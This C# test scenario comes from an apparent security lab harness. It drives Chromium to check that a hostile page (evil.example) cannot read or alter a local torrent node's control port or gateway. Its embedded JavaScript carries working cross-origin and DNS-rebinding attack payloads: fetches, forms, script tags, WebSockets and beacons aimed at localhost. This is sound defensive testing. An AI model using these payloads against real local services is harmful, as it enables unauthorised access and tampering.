using System.Net.Http.Headers;
using System.Text.Json;
using Swarm.Lab.Harness;
using Swarm.Lab.Harness.Browser;

namespace Swarm.Lab.Scenarios;

/// <summary>
/// A page that came through the proxy is not kept from this machine's ports by the browser. It tries the node's two ports with all that pages have:
/// nothing can be read, and nothing changes. The same page has its way with a careless program, so that an attack which reaches nobody cannot pass.
/// </summary>
public sealed class PageAttackScenario : IScenario
{
    private const string Secret = "the secret of a careless program";
    private const string Evil = "http://evil.example/";
    private const string Rebound = "rebound.example";
    private static readonly TimeSpan Patience = TimeSpan.FromMinutes(1);

    public string Name => "page-attacks";

    public string Holds => "a page through the proxy reads nothing of the control port and the gateway and changes nothing, by fetch, form, script, frame, media, WebSocket or DNS rebinding";

    public IReadOnlyList<Tool> Needs => [Tool.Chromium];

    public bool IsInCi => false;

    public async Task RunAsync(Bench bench, Report report, Depth depth, CancellationToken stop)
    {
        var internet = bench.Own(new AnyName("Content-Type: text/html\r\nCache-Control: no-store\r\n", "<!doctype html><title>evil</title><body>"));
        var careless = bench.Own(new AnyName("Content-Type: text/javascript\r\nCache-Control: no-store\r\nAccess-Control-Allow-Origin: *\r\nAccess-Control-Allow-Headers: *\r\nAccess-Control-Allow-Methods: *\r\n", $"window.leaked = '{Secret}'"));
        var node = await SwarmstreamNode.StartAsync(bench, stop, null, "--upstream-proxy", $"http://127.0.0.1:{internet.Port}");
        using var owner = new HttpClient { BaseAddress = node.Control };
        owner.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", node.Token);
        var before = await StateAsync(owner, stop);

        // Chromium reaches loopback without the proxy, unless it is told otherwise: both ways are tried.
        foreach (var through in new[] { false, true })
        {
            var way = through ? "through the proxy" : "past the proxy";
            var browser = await Chromium.StartAsync(bench, null, stop, $"--proxy-server=http://{node.Proxy}",
                $"--proxy-bypass-list={(through ? "<-loopback>;" : "")}{Rebound}", $"--host-resolver-rules=MAP {Rebound} 127.0.0.1");
            var page = await browser.OpenAsync(Evil, stop);
            await page.UntilAsync("document.title === 'evil'", Patience, stop);

            var weak = careless.Asked.Count;
            var against = await AttackAsync(page, $"http://127.0.0.1:{careless.Port}", stop);
            report.True($"control, {way}: a careless program is read", against.Contains(Secret, StringComparison.Ordinal), Short(against));
            report.AtLeast($"control, {way}: and asked", careless.Asked.Count - weak, 8, "");

            foreach (var (name, port) in new[] { ("control port", node.Control.Authority), ("gateway", node.Proxy.ToString()) })
            {
                var got = await AttackAsync(page, $"http://{port}", stop);
                report.True($"{name}, {way}: nothing is readable", IsNothing(got), Short(got));
                got = await AttackAsync(page, $"http://localhost:{port.Split(':')[1]}", stop);
                report.True($"{name} as localhost, {way}: nothing is readable", IsNothing(got), Short(got));
                var rebound = await RebindAsync(browser, port.Split(':')[1], stop);
                report.True($"{name}, rebound, {way}: refused", rebound.Split(' ') is [['4', _, _], "421", ['4', _, _]], rebound);
            }

            var weakly = await RebindAsync(browser, $"{careless.Port}", stop);
            report.Equal($"control, rebound, {way}: a careless program answers", weakly, "200 200 200");
        }

        report.Equal("the node's torrents, peers and settings, before and after", await StateAsync(owner, stop), before);
        report.AtLeast("pages came through the proxy", internet.Asked.Count(a => a.Contains(Evil, StringComparison.Ordinal)), 2, "");
        report.Exchanged(Tool.Chromium, "requests of its page to the careless program", careless.Asked.Count);
        await OwnerCanAsync(owner, report, stop);
    }

    /// <summary>What the page sent as an attacker, its owner may: the requests themselves are right.</summary>
    private static async Task OwnerCanAsync(HttpClient owner, Report report, CancellationToken stop)
    {
        using var purge = new HttpRequestMessage(HttpMethod.Delete, "/api/v1/cache");
        purge.Headers.Add("X-Swarm", "1");
        using var answer = await owner.SendAsync(purge, stop);
        report.Equal("control: the owner's own purge", (int)answer.StatusCode, 200);
    }

    private static async Task<string> StateAsync(HttpClient owner, CancellationToken stop)
    {
        using var status = JsonDocument.Parse(await owner.GetStringAsync(new Uri("/api/v1/status", UriKind.Relative), stop));
        var torrents = await owner.GetStringAsync(new Uri("/api/v1/torrents", UriKind.Relative), stop);
        return $"{torrents.Trim()} share={status.RootElement.GetProperty("share")} hosts={status.RootElement.GetProperty("swarm_hosts")}";
    }

    /// <summary>True if no attack but the harmless ones came to anything: an opaque answer has no content for the page.</summary>
    private static bool IsNothing(string results)
    {
        using var json = JsonDocument.Parse(results);
        return json.RootElement.EnumerateObject().All(r => r.Value.GetString() is "refused" or "opaque" or "nothing" or "sent");
    }

    private static string Short(string results) => results.Length > 300 ? results[..300] + "…" : results;

    private static Task<string> AttackAsync(BrowserPage page, string at, CancellationToken stop) => page.TextAsync($$"""
        (async base => {
          const limited = promise => Promise.race([promise, new Promise(r => setTimeout(() => r('nothing'), 3000))]);
          const read = (path, options) => limited(fetch(base + path, options).then(async a => a.type === 'opaque' ? 'opaque' : `${a.status} ${await a.text()}`, () => 'refused'));
          const load = (tag, attribute, path) => limited(new Promise(r => {
            const e = document.createElement(tag);
            e.onload = e.onloadeddata = () => r('loaded');
            e.onerror = () => r('refused');
            e[attribute] = base + path;
            document.body.append(e);
          }));
          const change = { 'X-Swarm': '1', 'Content-Type': 'application/json' };
          const out = {};
          out.read = await read('/api/v1/status');
          out.open = await read('/healthz');
          out.metrics = await read('/metrics');
          out.token = await read('/api/v1/status', { headers: { Authorization: 'Bearer ' + 'A'.repeat(43) } });
          out.blind = await read('/api/v1/torrents', { method: 'POST', mode: 'no-cors', body: 'magnet:?xt=urn:btih:' + 'a'.repeat(40) });
          out.change = await read('/api/v1/torrents', { method: 'POST', headers: { 'X-Swarm': '1', 'Content-Type': 'application/x-bittorrent' }, body: 'magnet:?xt=urn:btih:' + 'a'.repeat(40) });
          out.remove = await read('/api/v1/cache', { method: 'DELETE', headers: change });
          out.capability = await read('/api/v1/capabilities', { method: 'POST', headers: change, body: '{"url":"https://bank.example/"}' });
          out.playhead = await read('/api/v1/playhead', { method: 'POST', headers: change, body: '{"url":"https://bank.example/"}' });
          out.gateway = await read('/gateway/https/bank.example/account');
          out.guess = await read('/gateway/~' + 'A'.repeat(43) + '/https/bank.example/account');
          out.torrents = await read('/torrents/' + 'a'.repeat(40));
          out.beacon = navigator.sendBeacon(base + '/api/v1/torrents', 'magnet:') ? 'sent' : 'refused';
          out.form = await limited(new Promise(r => {
            const frame = Object.assign(document.createElement('iframe'), { name: 'f' + Math.random(), onload: () => { try { r(frame.contentDocument === null ? 'opaque' : frame.contentDocument.body.textContent ? 'read' : 'nothing') } catch { r('opaque') } } });
            document.body.append(frame);
            const form = Object.assign(document.createElement('form'), { method: 'POST', action: base + '/api/v1/torrents', enctype: 'text/plain', target: frame.name });
            form.append(Object.assign(document.createElement('input'), { name: 'd', value: 'x' }));
            document.body.append(form);
            form.submit();
          }));
          delete window.leaked;
          out.script = await load('script', 'src', '/api/v1/status');
          out.script = window.leaked ?? (out.script === 'loaded' ? 'loaded' : 'refused');
          out.gatewayScript = await load('script', 'src', '/gateway/http/evil.example/a.js');
          out.image = await load('img', 'src', '/metrics');
          out.video = await load('video', 'src', '/gateway/http/evil.example/film.mp4');
          out.style = await load('link', 'href', '/');
          out.socket = await limited(new Promise(r => { const s = new WebSocket(base.replace('http', 'ws') + '/api/v1/events'); s.onopen = () => r('opened'); s.onerror = () => r('refused'); }));
          out.events = await limited(new Promise(r => { const s = new EventSource(base + '/api/v1/events'); s.onmessage = s.onopen = () => { s.close(); r('opened'); }; s.onerror = () => { s.close(); r('refused'); }; }));
          return JSON.stringify(out);
        })({{JsonSerializer.Serialize(at)}})
        """, stop);

    /// <summary>The attacker's name leads to this machine now: the page is, to the browser, of the same origin as the node. Gives three status codes.</summary>
    private static async Task<string> RebindAsync(Chromium browser, string port, CancellationToken stop)
    {
        var page = await browser.OpenAsync($"http://{Rebound}:{port}/", stop);
        await page.UntilAsync($"location.host === '{Rebound}:{port}' && document.readyState === 'complete'", Patience, stop);
        var codes = await page.TextAsync("""
            (async () => {
              const answers = [await fetch('/api/v1/status'), await fetch('/gateway/http/evil.example/'),
                await fetch('/api/v1/cache', { method: 'DELETE', headers: { 'X-Swarm': '1' } })];
              return answers.map(a => a.status).join(' ');
            })()
            """, stop);
        await page.CloseAsync(stop);
        return codes;
    }
}
